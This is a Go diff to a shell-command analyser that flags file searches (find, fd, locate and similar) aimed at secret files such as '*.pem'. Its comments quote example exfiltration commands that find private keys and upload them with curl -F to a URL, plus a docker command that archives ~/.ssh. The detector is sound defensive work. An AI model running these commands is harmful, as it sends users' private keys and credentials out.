@@ -251,6 +251,11 @@ func (h *heldSecrets) commandSecrets(u *cmdline.Command, ue *CommandEnv, i int, 
 	if (u.Name == "echo" || u.Name == "printf") && slices.ContainsFunc(ue.Args, func(a string) bool { return h.expands(a, i) || secretVar().MatchString(a) }) {
 		secrets = append(secrets, u.Source)
 	}
+	if searchesSecrets(u) {
+		// find ~ -name '*.pem' | while read f; do curl -F "f=@$f" …: what
+		// the search prints names the secret files, and a loop sends them
+		secrets = append(secrets, "the secret files found by "+u.Source)
+	}
 	if k := u.Container; k != nil && len(containerSecrets(k, ue.Cwd, func(p string) bool { return h.names(p, ue.Cwd, i, ctx) })) > 0 {
 		// docker run -v ~/.ssh:/k alpine tar c /k > k.tar: what a container
 		// given this machine's secrets prints may be them
@@ -333,6 +338,9 @@ func (h *heldSecrets) findsHeld(u *cmdline.Command, cwd string, i int, ctx Conte
 	if f == nil {
 		return false
 	}
+	if searchesSecrets(f) {
+		return true // find ~ -name '*.pem' -exec curl -F f=@{} URL \;
+	}
 	var starts, names []string
 	opaque := false
 	args := wordValues(f.Args)
@@ -385,6 +393,18 @@ func (h *heldSecrets) findsHeld(u *cmdline.Command, cwd string, i int, ctx Conte
 				}
 			}
 		}
+	}
+	return false
+}
+
+// searchesSecrets reports a file search (find, fd, locate) whose
+// patterns name secret files (secretSearch): the files it finds, and so
+// the names it prints, are secrets'. Listing programs that only echo
+// their words (ls, echo) are left to the paths they name.
+func searchesSecrets(u *cmdline.Command) bool {
+	switch prog := programName(u.Name); prog {
+	case "find", "gfind", "bfs", "fd", "fdfind", "locate", "plocate", "mlocate", "slocate":
+		return secretSearch(prog, wordValues(u.Args)) != ""
 	}
 	return false
 }
